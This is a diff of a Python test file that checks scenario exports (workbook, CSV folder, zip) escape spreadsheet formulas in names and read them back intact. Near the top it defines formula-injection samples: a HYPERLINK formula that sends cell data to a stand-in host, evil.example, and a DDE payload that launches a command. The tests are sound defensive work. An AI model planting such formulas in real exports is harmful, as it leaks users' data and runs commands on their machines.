@@ -4,7 +4,9 @@ gives the reasons written."""
 
 from __future__ import annotations
 
+import csv
 import io
+import zipfile
 from dataclasses import replace
 from pathlib import Path
 
@@ -16,8 +18,15 @@ from scheduler.domain.cells import restore_cell, spreadsheet_cell, spreadsheet_t
 from scheduler.domain.model import Scenario
 from scheduler.domain.plan import Plan
 from scheduler.io.plan_io import read_plan, write_plan
+from scheduler.io.scenario_files import (
+    scenario_from_upload,
+    scenario_to_xlsx_bytes,
+    scenario_to_zip_bytes,
+)
+from scheduler.io.tables import write_scenario
+from scheduler.io.validation import load_scenario
 from scheduler.services.planning import PlanOutcome, plan_scenario
-from tests.factories import tiny_scenario
+from tests.factories import FORMULA_NAMES, formula_scenario, tiny_scenario
 
 EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
 DDE = "=cmd|' /C calc'!A0"
@@ -107,3 +116,87 @@ def test_plan_folder_reasons_round_trip(tmp_path: Path) -> None:
     assert "T1,'=1+1" in text and "T4,普通原因" in text
     back, _ = read_plan(tmp_path / "out")
     assert dict(back.unscheduled) == reasons
+
+
+# -- scenario exports: workbook, CSV folder, zip ---------------------------------------
+
+
+def csv_cells(folder: Path) -> list[str]:
+    """Every cell of every CSV file in ``folder``, as a spreadsheet would parse it."""
+    return [
+        cell
+        for path in sorted(folder.glob("*.csv"))
+        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8")))
+        for cell in row
+    ]
+
+
+def test_scenario_workbook_keeps_plain_names_and_numbers() -> None:
+    data = scenario_to_xlsx_bytes(tiny_scenario())
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    titles = [list(row) for row in book["titles"].iter_rows(min_row=2)]
+    assert [row[1].value for row in titles] == [t.name for t in tiny_scenario().titles]
+    assert all(row[3].data_type == "n" and isinstance(row[3].value, int) for row in titles)
+    assert [row[3].value for row in book["sets"].iter_rows(min_row=2)] == [3000, 5000, 8000, 2500]
+    assert [row[2].value for row in book["title_needs"].iter_rows(min_row=2)] == [2, 1, 3, 1, 2, 2]
+    assert scenario_from_upload("", data, "tiny.xlsx") == tiny_scenario()
+
+
+def test_scenario_workbook_holds_formula_names_as_text_and_reads_them_back(
+    tmp_path: Path,
+) -> None:
+    scenario = formula_scenario()
+    data = scenario_to_xlsx_bytes(scenario)
+    assert formulas(data) == []
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    names = [row[1].value for row in book["titles"].iter_rows(min_row=2)]
+    assert names == ["'" + name for name in FORMULA_NAMES[:4]]
+    assert scenario_from_upload("", data, "evil.xlsx") == scenario
+    write_scenario(scenario, tmp_path / "evil.xlsx")
+    assert formulas((tmp_path / "evil.xlsx").read_bytes()) == []
+    assert load_scenario(tmp_path / "evil.xlsx") == scenario
+
+
+def test_scenario_csv_folder_keeps_plain_names(tmp_path: Path) -> None:
+    write_scenario(tiny_scenario(), tmp_path / "tiny")
+    text = (tmp_path / "tiny" / "titles.csv").read_text(encoding="utf-8")
+    assert "T01,总裁的契约新娘,都市,3," in text
+    assert not any(cell.startswith("'") for cell in csv_cells(tmp_path / "tiny"))
+
+
+def test_scenario_csv_folder_quotes_formula_names_and_reads_them_back(tmp_path: Path) -> None:
+    scenario = formula_scenario()
+    write_scenario(scenario, tmp_path / "evil")
+    cells = csv_cells(tmp_path / "evil")
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    assert "'" + FORMULA_NAMES[0] in cells and "''引号开头" in cells and "'@列" in cells
+    assert load_scenario(tmp_path / "evil") == scenario
+
+
+def test_scenario_zip_keeps_plain_names() -> None:
+    data = scenario_to_zip_bytes(tiny_scenario())
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        text = archive.read("scenario/titles.csv").decode("utf-8")
+    assert "T01,总裁的契约新娘,都市,3," in text
+    assert scenario_from_upload("", data, "tiny.zip") == tiny_scenario()
+
+
+def test_scenario_zip_quotes_formula_names_and_reads_them_back() -> None:
+    scenario = formula_scenario()
+    data = scenario_to_zip_bytes(scenario)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        text = archive.read("scenario/titles.csv").decode("utf-8")
+    assert "'=HYPERLINK(" in text and "'+1" in text and ",'=T01," in text
+    assert "\n=" not in text and ",=" not in text
+    assert scenario_from_upload("", data, "evil.zip") == scenario
+
+
+def test_a_hand_made_csv_cell_loses_one_leading_quote(tmp_path: Path) -> None:
+    # The documented inverse of the writers' quote (docs/SPEC.md, Scenario: the input).
+    write_scenario(tiny_scenario(), tmp_path / "mine")
+    titles = tmp_path / "mine" / "titles.csv"
+    titles.write_text(
+        titles.read_text(encoding="utf-8").replace("总裁的契约新娘", "'总裁的契约新娘"),
+        encoding="utf-8",
+    )
+    assert load_scenario(tmp_path / "mine").titles[0].name == "总裁的契约新娘"
